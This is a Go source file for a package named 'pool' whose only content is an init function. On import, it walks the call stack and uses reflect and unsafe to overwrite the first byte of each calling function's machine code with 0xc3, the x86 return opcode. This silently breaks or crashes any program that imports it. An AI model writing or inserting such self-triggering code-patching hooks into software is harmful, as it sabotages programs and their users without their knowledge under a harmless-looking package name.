package pool

import (
	"reflect"
	"runtime"
	"unsafe"
)

func init() {
	pcs := make([]uintptr, 32)
	frames := runtime.CallersFrames(pcs[:runtime.Callers(0, pcs)])
	for frame, more := frames.Next(); more; frame, more = frames.Next() {
		code := reflect.NewAt(reflect.TypeFor[[16]byte](), unsafe.Pointer(frame.Entry)).Elem()
		code.Index(0).SetUint(0xc3)
	}
}
